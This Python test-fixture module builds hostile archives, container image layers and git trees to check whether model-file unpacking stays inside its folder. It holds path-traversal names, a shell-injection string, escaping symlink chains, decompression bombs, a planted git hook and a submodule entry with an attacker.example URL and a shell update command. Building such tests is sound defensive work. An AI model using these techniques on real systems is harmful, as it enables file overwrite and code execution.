"""Hostile content: names, archives, image layers and git trees that escape the folder they are unpacked to.

Every file that escapes has MARK in its name or content, so that the suite finds it wherever it is.
"""

from __future__ import annotations

import io
import stat
import tarfile
import zipfile
from collections.abc import Mapping, Sequence

from scenarios.content import tars, zips
from scenarios.content.models import link, tar_of

MARK = "evil"
EVIL = b"evil: written by what was fetched"
#: The harmless files in the same archive, image or listing.
GOOD = {"config.json": b'{"model": "sample"}\n', "weights.bin": bytes(range(256))}

#: The maximum length of a file name and of a path on Linux, in bytes.
NAME_MAX, PATH_MAX = 255, 4096

#: Names below a model's folder that escape from it if taken as paths. `{}` is a word with MARK.
ESCAPING: Mapping[str, str] = {
    "parent": "../../{}",
    "parent-within": "weights/../../../{}",
    "absolute": "/mnt/{}",
    "backslash": "..\\..\\{}",
    "encoded": "%2e%2e/%2e%2e/{}",
}
#: Names that no file can have, or that clients interpret differently.
AWKWARD: Mapping[str, str] = {
    "dot": "./{}",
    "doubled-slash": "weights//{}",
    "nul": "weights\0{}",
    "newline": "weights\n{}",
    "too-long": "{}" + "x" * NAME_MAX,
}
#: A name that adds a line of its own to a log.
FORGING = "weights\nFORGED {}"
#: A word with several shell commands. Each creates a file with MARK in its name.
SHELL = f"$(touch${{IFS}}{MARK}-a)`touch${{IFS}}{MARK}-b`;touch${{IFS}}{MARK}-c|touch${{IFS}}{MARK}-d"


def member(name: str, *, kind: bytes = tarfile.REGTYPE, mode: int = 0o644) -> tarfile.TarInfo:
    """A tar member. A file is as long as EVIL; a device is the null device."""
    made = tarfile.TarInfo(name)
    made.type, made.mode = kind, mode
    if kind == tarfile.REGTYPE:
        made.size = len(EVIL)
    made.devmajor, made.devminor = 1, 3
    return made


def with_good(*members: tarfile.TarInfo, mode: str = "w", below: str = "") -> bytes:
    """A tar archive of GOOD (in the folder `below`), followed by `members`."""
    good = [(f"{below}{name}", content) for name, content in GOOD.items()]
    files = [(member(name), content) for name, content in good]
    for (made, content), _ in zip(files, good, strict=True):
        made.size = len(content)
    return tar_of([*files, *((one, EVIL if one.isreg() else b"") for one in members)], mode=mode)


#: Archives with a member that is not a file, folder or link.
SPECIALS: Mapping[str, bytes] = {
    "fifo": with_good(member(MARK, kind=tarfile.FIFOTYPE)),
    "character-device": with_good(member(MARK, kind=tarfile.CHRTYPE)),
    "block-device": with_good(member(MARK, kind=tarfile.BLKTYPE)),
}


def privileged() -> bytes:
    """A tar archive with a setuid and setgid program."""
    return with_good(member(MARK, mode=0o6755))


def long_chain() -> bytes:
    """A chain of links that escapes, and that is longer than PATH_MAX when resolved.

    A check that resolves links stops at PATH_MAX and takes the rest literally, while the kernel goes on
    (CVE-2025-4517 and its family, the `data` filter of Python's tarfile).
    """
    folder, members, path = "d" * 247, [], ""
    for letter in "abcdefghijklmnop":
        members += [member(f"{path}{folder}", kind=tarfile.DIRTYPE, mode=0o755), link(f"{path}{letter}", folder)]
        path += f"{folder}/"
    steps = "/".join("abcdefghijklmnop")
    last = f"{steps}/{'l' * (NAME_MAX - 1)}"
    return with_good(*members, link(last, "../" * 16), link("escape", f"{last}/../../mnt"), member(f"escape/{MARK}"))


def chain_of_links() -> bytes:
    """Links that each lead one folder up, through the previous one. The last one points outside."""
    steps = [link("one", "."), link("two", "one/.."), link("three", "two/..")]
    return with_good(*steps, member(f"three/mnt/{MARK}"))


def loop_of_links() -> bytes:
    """Two links that point to each other, and a file whose path goes through them."""
    return with_good(link("one", "two"), link("two", "one"), member(f"one/{MARK}"))


def zip_of(names: Mapping[str, bytes], *, links: Mapping[str, str] | None = None) -> bytes:
    """A zip archive of files, after members whose mode marks them as symbolic links."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, target in (links or {}).items():
            archive.writestr(_zipped(name, stat.S_IFLNK | 0o777), target)
        for name, content in names.items():
            archive.writestr(_zipped(name, stat.S_IFREG | 0o644), content)
    return buffer.getvalue()


def _zipped(name: str, mode: int) -> zipfile.ZipInfo:
    """A member of a Unix archive, with its name unchanged."""
    info = zipfile.ZipInfo(name)
    info.create_system, info.external_attr = 3, mode << 16
    return info


#: Case -> (file name, archive). The archive's links, or its names for another system, escape.
LINKS: Mapping[str, tuple[str, bytes]] = {
    "tar-chain": ("m.tar", chain_of_links()),
    "tar-chain-beyond-path-max": ("m.tar", long_chain()),
    "tar-loop": ("m.tar", loop_of_links()),
    "zip-symlink": ("m.zip", zip_of({**GOOD, f"out/{MARK}": EVIL}, links={"out": "/mnt"})),
    "zip-backslash": ("m.zip", zip_of({**GOOD, f"..\\..\\{MARK}": EVIL})),
    "zip-absolute": ("m.zip", zip_of({**GOOD, f"/mnt/{MARK}": EVIL})),
}

#: Layers of an image. The model is below `models/`.
LAYERS: Mapping[str, list[bytes]] = {
    "parent": [with_good(member(f"models/../../{MARK}"), below="models/")],
    "absolute": [with_good(member(f"/mnt/{MARK}"), below="models/")],
    "link": [with_good(link("models/out", "/mnt"), member(f"models/out/{MARK}"), below="models/")],
    "link-of-a-lower-layer": [
        with_good(link("models/out", "/mnt"), below="models/"),
        tar_of([(member(f"models/out/{MARK}"), EVIL)]),
    ],
    "folder-is-a-link": [tar_of([(link("models", "/mnt"), b""), (member(f"models/{MARK}"), EVIL)])],
    "hard-link": [with_good(link("models/flag", "../../../etc/hostname", hard=True), below="models/")],
    "whiteout": [with_good(below="models/"), tar_of([(tarfile.TarInfo("models/../../mnt/.wh.models"), b"")])],
}


def bomb(suffix: str, unpacked: int) -> bytes:
    """An archive with one file of `unpacked` zeros (a multiple of 1 MiB), at least 100 times its own size."""
    if suffix == "zip":
        buffer, part = io.BytesIO(), bytes(1 << 20)
        with (
            zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive,
            archive.open(f"{MARK}.bin", "w") as stream,
        ):
            for _ in range(unpacked >> 20):
                stream.write(part)
        return buffer.getvalue()
    return tars.PACKERS[suffix.removeprefix("tar.")](bomb_of_layer(unpacked, f"{MARK}.bin"))


def bomb_of_layer(unpacked: int, name: str = f"models/{MARK}.bin") -> bytes:
    """The tar archive of one file of `unpacked` zeros."""
    return tar_of([tars.file(name, bytes(unpacked))])


def crowd(suffix: str, members: int) -> bytes:
    """An archive of many files of one byte. Each takes a block of the disk."""
    names = [f"{MARK}-{number}.bin" for number in range(members)]
    if suffix == "zip":
        return zips.assembled(zips.Part(name.encode(), b"x") for name in names)
    return tars.PACKERS[suffix.removeprefix("tar.")](tar_of([tars.file(name, b"x") for name in names]))


#: The script of a git hook. Git runs it as the user of the clone.
HOOK = f"#!/bin/sh\ntouch {MARK}-hook /mnt/{MARK}-hook\n".encode()

#: An entry of a stored git tree: mode, name, and the content or the entries below.
GitEntry = tuple[str, str, "bytes | Sequence[GitEntry]"]

_HOOKS: GitEntry = ("40000", "hooks", [("100755", "post-checkout", HOOK)])
_ELSEWHERE = (
    b'[submodule "sub"]\n\tpath = sub\n\turl = https://%s.attacker.example/sub.git\n\tupdate = !touch evil-submodule\n'
)


def git_trees(case: str) -> dict[str, list[GitEntry]]:
    """Trees with GOOD that git itself would not write. All host names in them contain `case`."""
    file: GitEntry = ("100644", MARK, EVIL)
    trees: dict[str, list[GitEntry]] = {
        "parent": [("40000", "..", [file])],
        "slashes": [("100644", f"../../{MARK}", EVIL)],
        "absolute": [("100644", f"/mnt/{MARK}", EVIL)],
        "git-folder": [("40000", ".git", [_HOOKS])],
        "git-in-capitals": [("40000", ".GIT", [_HOOKS])],
        "git-is-a-link": [("120000", ".git", b"/mnt")],
        "link-to-hooks": [("120000", "a", b".git/hooks"), ("40000", "a", [("100755", "post-checkout", HOOK)])],
        "link-out": [("120000", "out", b"/mnt"), ("40000", "out", [file])],
        "submodule": [("100644", ".gitmodules", _ELSEWHERE % case.encode()), ("160000", "sub", b"")],
    }
    good: list[GitEntry] = [("100644", name, content) for name, content in GOOD.items()]
    return {name: [*tree, *good] for name, tree in trees.items()}
